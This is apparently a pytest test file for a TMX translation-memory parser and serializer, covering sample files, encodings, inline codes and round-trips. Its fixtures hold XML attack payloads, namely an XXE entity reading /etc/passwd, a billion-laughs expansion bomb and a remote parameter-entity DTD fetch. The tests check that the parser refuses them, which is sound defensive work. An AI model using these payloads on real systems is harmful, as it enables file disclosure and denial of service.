"""TMX: every sample file reads, unsafe DOCTYPEs are refused, and what we write reads back."""

from __future__ import annotations

import re
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from lxml import etree
from support import require_corpora, write

from l10n.errors import L10nError
from l10n.proposals import tmx
from l10n.proposals.memory import _tmx_units


def sample(name: str) -> Path:
    return require_corpora() / "tmx" / name


def lisa_files() -> list[str]:
    folder = Path(__file__).resolve().parents[2] / "shared/corpora/tmx/lisa_tmx_compliance_kit"
    return sorted(p.name for p in folder.glob("*.tmx")) or ["(corpora missing)"]


def declared_units(path: Path) -> int:
    data = path.read_bytes()
    text = data.decode("utf-16") if data[:2] in (b"\xff\xfe", b"\xfe\xff") else data.decode()
    return len(re.findall(r"<tu[\s>]", text))


@pytest.mark.parametrize("name", lisa_files())
def test_every_lisa_compliance_kit_file_reads_with_all_its_units(name):
    path = sample(f"lisa_tmx_compliance_kit/{name}")
    memory = tmx.read(path)
    assert len(memory.units) == declared_units(path) > 0
    assert all(lang and isinstance(text, str) for unit in memory.units
               for lang, text in unit.variants)


def test_utf16_both_byte_orders_and_char_references_read_the_same():
    kit = "lisa_tmx_compliance_kit/ImportTest1"
    expected = tmx.read(sample(kit + "E.tmx")).units  # UTF-8
    for variant in "DFGH":  # UTF-8 with declaration, UTF-16 LE, UTF-16 BE, us-ascii refs
        units = tmx.read(sample(f"{kit}{variant}.tmx")).units
        assert [u.variants for u in units] == [u.variants for u in expected]
    assert expected[1].variants[0] == ("en-us", "ÿ=U+00FF, ™=U+2122, ’=U+2019")


def test_segment_whitespace_and_language_case_kept_and_mapped():
    first = tmx.read(sample("lisa_tmx_compliance_kit/ImportTest1A.tmx")).units[0]
    assert first.variants == (("en-us", "First segment with [\t\t   ]"),
                              ("fr-ca", "Premier segment avec [\t\t   ]"))
    mixed = tmx.read(sample("lisa_tmx_compliance_kit/ImportTest1B.tmx"))
    assert mixed.units[0].variants == (("eN-uS", "Text of the segment"),
                                       ("fR-Ca", "Texte du segment"))
    assert _tmx_units(mixed) == [((("en", "Text of the segment"), ("fr", "Texte du segment")),
                                  None)]


def test_inline_codes_are_flattened_to_the_text_a_translator_reads():
    units = tmx.read(sample("lisa_tmx_compliance_kit/ImportTest2A.tmx")).units
    texts = [dict((lang.lower(), text) for lang, text in u.variants) for u in units]
    assert texts[0] == {"en-us": "The big black cat sleeps.", "fr-ca": "Le gros chat noir dors."}
    assert texts[2]["en-us"] == "Nested formatting = Bold+Italic+Underlined, Bold+Italic, Bold."
    assert texts[5] == {"en-us": "Picture: ", "fr-ca": "Image: "}  # <ph> dropped
    assert texts[6]["en-us"] == "Some text with a part highlighted."  # <hi> text kept
    nested = tmx.read(sample("lisa_tmx_compliance_kit/ImportTest2C.tmx")).units[0]
    assert nested.variants[1] == ("fr", "Cliquez  pour commencer.")  # <sub> inside <ph> dropped


def test_omegat_and_trados_samples():
    trados = tmx.read(sample("okapi/html_test_trados_utf16.tmx"))
    assert len(trados.units) == 11 and trados.srclang == "EN-US"
    assert trados.units[0].variants[0] == ("EN-US", "start &lt; of &lt; body text")
    assert trados.units[2].variants[0] == ("EN-US", "Second paragraph tag")
    okapi = tmx.read(sample("okapi/mytm_omegat_EN-US_FR-FR.tmx"))
    assert len(okapi.units) == 25
    old = tmx.read(sample("omegat/test-omegat.tmx"))  # TMX 1.1: lang, not xml:lang
    assert old.units[0].variants == (("en", "entuv"), ("be", "betuv"))
    several = tmx.read(sample("omegat/test-multiple-tuv.tmx"))
    assert _tmx_units(several)[0][0] == (("en", "Hello World!"),
                                         ("fr", "fr_CA Bonjour le monde\u00a0!"))
    assert tmx.read(sample("omegat/empty.tmx")).units == ()
    assert _tmx_units(tmx.read(sample("omegat/invalid.tmx"))) == []  # only codes: no text
    assert tmx.read(sample("omegat/test-SMP.tmx")).units[0].variants[0] == ("en", "𝐀𝐁𝐂")


XXE = """<?xml version="1.0"?>
<!DOCTYPE tmx [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<tmx version="1.4"><header srclang="en"/><body><tu>
<tuv xml:lang="en"><seg>&xxe;</seg></tuv><tuv xml:lang="fr"><seg>x</seg></tuv>
</tu></body></tmx>"""
LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE tmx [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<tmx version="1.4"><header/><body><tu><tuv xml:lang="en"><seg>&lol9;</seg></tuv></tu></body></tmx>"""
PARAMETER = """<?xml version="1.0"?>
<!DOCTYPE tmx [<!ENTITY % remote SYSTEM "http://example.com/evil.dtd"> %remote;]>
<tmx version="1.4"><header/><body/></tmx>"""


HIDDEN = LAUGHS.replace('<?xml version="1.0"?>', '<?xml version="1.0"?>\n<!-- <tmx> -->', 1)


@pytest.mark.parametrize("payload", [XXE, LAUGHS, PARAMETER, HIDDEN],
                         ids=["xxe", "laughs", "param", "after-comment"])
@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
def test_entity_declarations_are_refused_with_a_clear_error(payload, encoding):
    data = payload.replace('version="1.0"?>', f'version="1.0" encoding="{encoding}"?>', 1)
    with pytest.raises(L10nError, match="DOCTYPE declares entities") as info:
        tmx.parse(data.encode(encoding), "evil.tmx")
    assert "passwd" not in str(info.value)


def test_a_plain_doctype_without_entities_is_fine():
    data = b'<?xml version="1.0"?>\n<!DOCTYPE tmx SYSTEM "tmx14.dtd">\n<tmx version="1.4">' \
           b'<header/><body><tu><tuv xml:lang="en"><seg>a</seg></tuv></tu></body></tmx>'
    assert tmx.parse(data, "x.tmx").units[0].variants == (("en", "a"),)


@pytest.mark.parametrize("data, message", [
    (b"<tmx><body><tu>", "not well-formed XML"),
    (b"<xliff/>", "root element is <xliff>"),
    (b"<tmx version='1.4'><header/></tmx>", "without <body>"),
    (b"<tmx><body><tu><tuv><seg>a</seg></tuv></tu></body></tmx>", "without xml:lang"),
])
def test_broken_files_are_refused_with_the_reason(data, message):
    with pytest.raises(L10nError, match=message):
        tmx.parse(data, "bad.tmx")


def test_written_header_has_every_required_attribute(tmp_path):
    data = tmx.serialize([("Bonjour.", "Hello.")], source_lang="fr", target_lang="en",
                         tool_version="1.2")
    root = etree.fromstring(data)
    header = root.find("header")
    assert root.get("version") == "1.4"
    assert {"creationtool", "creationtoolversion", "segtype", "o-tmf", "adminlang", "srclang",
            "datatype"} <= set(header.keys())
    assert header.get("srclang") == "fr"
    langs = [tuv.get(tmx.XML_LANG) for tuv in root.iter("tuv")]
    assert langs == ["fr", "en"]


XML_TEXT = st.text(st.characters(codec="utf-8", exclude_categories=["Cs", "Cc"],
                                 exclude_characters="\ufffe\uffff") | st.sampled_from("\t\n\r <>&\"'"))


@settings(max_examples=150, deadline=None)
@given(st.lists(st.tuples(XML_TEXT, XML_TEXT), max_size=6))
def test_what_is_written_reads_back_identically(pairs):
    data = tmx.serialize(pairs, source_lang="fr", target_lang="ar", tool_version="0")
    units = tmx.parse(data, "round.tmx").units
    assert [u.variants for u in units] == [(("fr", s), ("ar", t)) for s, t in pairs]


def test_control_characters_cannot_be_written():
    with pytest.raises(L10nError, match="U\\+0001"):
        tmx.serialize([("a\x01", "b")], source_lang="fr", target_lang="en", tool_version="0")


def test_unreadable_file_is_an_error(tmp_path):
    with pytest.raises(L10nError, match="cannot read"):
        tmx.read(tmp_path / "missing.tmx")
    assert tmx.read(write(tmp_path / "ok.tmx", "<tmx><body/></tmx>")).units == ()
